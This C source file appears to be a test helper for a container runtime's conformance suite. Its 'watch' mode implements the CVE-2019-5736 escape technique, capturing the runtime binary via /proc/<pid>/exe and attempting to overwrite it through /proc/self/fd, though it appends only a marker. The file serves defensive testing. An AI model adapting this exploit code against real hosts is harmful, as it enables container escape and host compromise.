/* Static helper of the hostile-container tests (conformance/tests/attack-*.bats),
 * built by lib/attack.bash with `cc -static` and copied into the rootfs.
 *
 *   atk watch DIR SECONDS
 *       The CVE-2019-5736 attacker.  Polls /proc for new processes; for each
 *       one opens /proc/<pid>/exe with O_PATH and keeps the fd when the file
 *       is neither busybox nor this helper (that is: the runtime's binary
 *       while it sets up an exec'd process, or a runtime binary the container
 *       ran through /proc/self/exe).  Meanwhile it keeps trying to reopen
 *       every kept fd through /proc/self/fd/N for writing (O_WRONLY|O_APPEND)
 *       and, when that works, appends a marker.  Creates DIR/ready once
 *       running; stops when DIR/stop exists or after SECONDS; then writes
 *       DIR/result, one line:
 *         caught=N written=M final=EROFS errors=ETXTBSY:12,EROFS:3 exes=<readlinks>
 *       (final: outcome of the last attempt, made after DIR/stop, when the
 *       runtime is no longer running: "written", an errno name or "none")
 *   atk write PATH VALUE
 *       open(PATH, O_WRONLY|O_APPEND) and write VALUE: prints "written" or
 *       the errno name (exit 0 either way; 2 on usage errors).
 *   atk read PATH
 *       open(PATH, O_RDONLY) and read one byte: prints "read" or the errno.
 *   atk mkdir PATH
 *       mkdir(PATH): prints "written" or the errno name.
 *   atk slowpipe MS CMD [ARGS...]
 *       Runs CMD with stdout on a pipe of one page (F_SETPIPE_SZ) that is
 *       read only after MS milliseconds: a CMD that writes more than a page
 *       stays alive (blocked in write) that long.  Exit status: CMD's.
 *   atk recvtty SOCKET OUTFILE
 *       Console socket (host side): accepts one connection, receives the pty
 *       master (SCM_RIGHTS) and copies what it reads to OUTFILE until EOF.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define MAXFD 32
#define MARKER "\nRCRUN-ATTACK-WAS-HERE\n"

static const char *ename(int e)
{
	switch (e) {
	case ETXTBSY: return "ETXTBSY";
	case EROFS: return "EROFS";
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOENT: return "ENOENT";
	case ESRCH: return "ESRCH";
	case EINVAL: return "EINVAL";
	case EBADF: return "EBADF";
	case EISDIR: return "EISDIR";
	case ENXIO: return "ENXIO";
	case EIO: return "EIO";
	case ENODEV: return "ENODEV";
	case ENOTDIR: return "ENOTDIR";
	case ELOOP: return "ELOOP";
	case EEXIST: return "EEXIST";
	case EBUSY: return "EBUSY";
	default: {
		static char b[32];
		snprintf(b, sizeof b, "errno%d", e);
		return b;
	}
	}
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* try to write through fd: 0 = written, else errno */
static int try_write_fd(int fd)
{
	char p[64];
	snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
	int w = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (w < 0)
		return errno;
	int rc = write(w, MARKER, sizeof MARKER - 1) == (ssize_t)(sizeof MARKER - 1) ? 0 : (errno ? errno : EIO);
	close(w);
	return rc;
}

static int do_watch(const char *dir, int secs)
{
	struct stat bb, me;
	char path[4096];
	int fds[MAXFD], nfd = 0, written = 0;
	dev_t devs[MAXFD];
	ino_t inos[MAXFD];
	int errs[256] = {0};
	char exes[4096] = "";
	static char seen[1 << 22];	/* pid bitmap (pid_max <= 4M) */

	if (stat("/bin/busybox", &bb) < 0)
		memset(&bb, 0, sizeof bb);
	if (stat("/proc/self/exe", &me) < 0) {
		perror("stat /proc/self/exe");
		return 2;
	}
	snprintf(path, sizeof path, "%s/ready", dir);
	close(open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
	snprintf(path, sizeof path, "%s/stop", dir);
	double end = now() + secs;
	seen[getpid()] = 1;
	for (unsigned long it = 0;; it++) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid >= (int)sizeof seen || seen[pid])
				continue;
			char p[64];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			int fd = open(p, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;	/* kernel thread, gone, or not allowed (yet): retry */
			struct stat st;
			if (fstat(fd, &st) < 0 ||
			    (st.st_dev == bb.st_dev && st.st_ino == bb.st_ino) ||
			    (st.st_dev == me.st_dev && st.st_ino == me.st_ino) || nfd >= MAXFD) {
				close(fd);
				/* a process seen running busybox/us may exec the runtime
				 * later (#!/proc/self/exe): only mark it seen once it is
				 * ours for sure */
				if (st.st_dev == me.st_dev && st.st_ino == me.st_ino)
					seen[pid] = 1;
				continue;
			}
			int dup = 0;
			for (int i = 0; i < nfd; i++)
				if (devs[i] == st.st_dev && inos[i] == st.st_ino)
					dup = 1;
			seen[pid] = 1;
			if (dup) {
				close(fd);
				continue;
			}
			devs[nfd] = st.st_dev;
			inos[nfd] = st.st_ino;
			fds[nfd++] = fd;
			char l[512] = "";
			snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
			ssize_t n = readlink(p, l, sizeof l - 1);
			if (n > 0)
				l[n] = 0;
			if (strlen(exes) + strlen(l) + 2 < sizeof exes) {
				strcat(exes, exes[0] ? "|" : "");
				strcat(exes, l);
			}
		}
		if (d)
			closedir(d);
		for (int i = 0; i < nfd; i++) {
			if (fds[i] < 0)
				continue;
			int r = try_write_fd(fds[i]);
			if (r == 0) {
				written++;
				close(fds[i]);
				fds[i] = -1;	/* once is enough */
			} else {
				errs[r & 255]++;
			}
		}
		if ((it & 63) == 0 && (access(path, F_OK) == 0 || now() > end))
			break;
	}
	/* last chance: the runtime has exited by now */
	const char *final = "none";
	for (int i = 0; i < nfd; i++) {
		if (fds[i] < 0) {
			final = "written";
			continue;
		}
		int r = try_write_fd(fds[i]);
		if (r == 0) {
			written++;
			final = "written";
		} else {
			errs[r & 255]++;
			if (strcmp(final, "written"))
				final = ename(r);
		}
	}
	char errstr[1024] = "";
	for (int i = 1; i < 256; i++) {
		if (!errs[i])
			continue;
		char one[64];
		snprintf(one, sizeof one, "%s%s:%d", errstr[0] ? "," : "", ename(i), errs[i]);
		if (strlen(errstr) + strlen(one) < sizeof errstr)
			strcat(errstr, one);
	}
	snprintf(path, sizeof path, "%s/result.tmp", dir);
	FILE *f = fopen(path, "w");
	if (!f) {
		perror(path);
		return 2;
	}
	fprintf(f, "caught=%d written=%d final=%s errors=%s exes=%s\n", nfd, written, final, errstr[0] ? errstr : "none",
		exes[0] ? exes : "none");
	fclose(f);
	char fin[4096];
	snprintf(fin, sizeof fin, "%s/result", dir);
	rename(path, fin);
	return 0;
}

static int do_write(const char *p, const char *v)
{
	int fd = open(p, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (fd < 0) {
		printf("%s\n", ename(errno));
		return 0;
	}
	if (write(fd, v, strlen(v)) < 0)
		printf("%s\n", ename(errno));
	else
		printf("written\n");
	close(fd);
	return 0;
}

static int do_read(const char *p)
{
	char c;
	int fd = open(p, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0) {
		printf("%s\n", ename(errno));
		return 0;
	}
	if (read(fd, &c, 1) < 0 && errno != EAGAIN)
		printf("%s\n", ename(errno));
	else
		printf("read\n");
	close(fd);
	return 0;
}

static int do_recvtty(const char *sock, const char *out)
{
	int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	if (strlen(sock) >= sizeof a.sun_path) {
		fprintf(stderr, "socket path too long\n");
		return 2;
	}
	strcpy(a.sun_path, sock);
	unlink(sock);
	if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0 || listen(s, 1) < 0) {
		perror(sock);
		return 2;
	}
	int c = accept4(s, NULL, NULL, SOCK_CLOEXEC);
	if (c < 0) {
		perror("accept");
		return 2;
	}
	char buf[4096], cbuf[CMSG_SPACE(sizeof(int) * 4)];
	struct iovec iov = {.iov_base = buf, .iov_len = sizeof buf};
	struct msghdr m = {.msg_iov = &iov, .msg_iovlen = 1, .msg_control = cbuf, .msg_controllen = sizeof cbuf};
	if (recvmsg(c, &m, MSG_CMSG_CLOEXEC) < 0) {
		perror("recvmsg");
		return 2;
	}
	struct cmsghdr *cm = CMSG_FIRSTHDR(&m);
	if (!cm || cm->cmsg_type != SCM_RIGHTS) {
		fprintf(stderr, "no fd received\n");
		return 2;
	}
	int pty;
	memcpy(&pty, CMSG_DATA(cm), sizeof pty);
	close(c);
	close(s);
	int o = open(out, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	ssize_t n;
	while ((n = read(pty, buf, sizeof buf)) > 0)
		if (o >= 0 && write(o, buf, n) < 0)
			break;
	return 0;
}

static int do_slowpipe(int ms, char **cmd)
{
	int p[2];
	if (pipe2(p, O_CLOEXEC) < 0) {
		perror("pipe");
		return 2;
	}
	fcntl(p[1], F_SETPIPE_SZ, 4096);
	pid_t pid = fork();
	if (pid == 0) {
		dup2(p[1], 1);
		execvp(cmd[0], cmd);
		perror(cmd[0]);
		_exit(127);
	}
	close(p[1]);
	usleep(ms * 1000);
	char buf[4096];
	while (read(p[0], buf, sizeof buf) > 0)
		;
	int st;
	if (waitpid(pid, &st, 0) < 0)
		return 2;
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}

static int do_mkdir(const char *p)
{
	printf("%s\n", mkdir(p, 0755) == 0 ? "written" : ename(errno));
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && !strcmp(argv[1], "watch"))
		return do_watch(argv[2], atoi(argv[3]));
	if (argc == 4 && !strcmp(argv[1], "write"))
		return do_write(argv[2], argv[3]);
	if (argc == 3 && !strcmp(argv[1], "mkdir"))
		return do_mkdir(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "read"))
		return do_read(argv[2]);
	if (argc >= 4 && !strcmp(argv[1], "slowpipe"))
		return do_slowpipe(atoi(argv[2]), argv + 3);
	if (argc == 4 && !strcmp(argv[1], "recvtty"))
		return do_recvtty(argv[2], argv[3]);
	fprintf(stderr, "usage: atk watch DIR SECONDS | write PATH VALUE | read PATH | mkdir PATH | slowpipe MS CMD... | recvtty SOCKET OUTFILE\n");
	return 2;
}
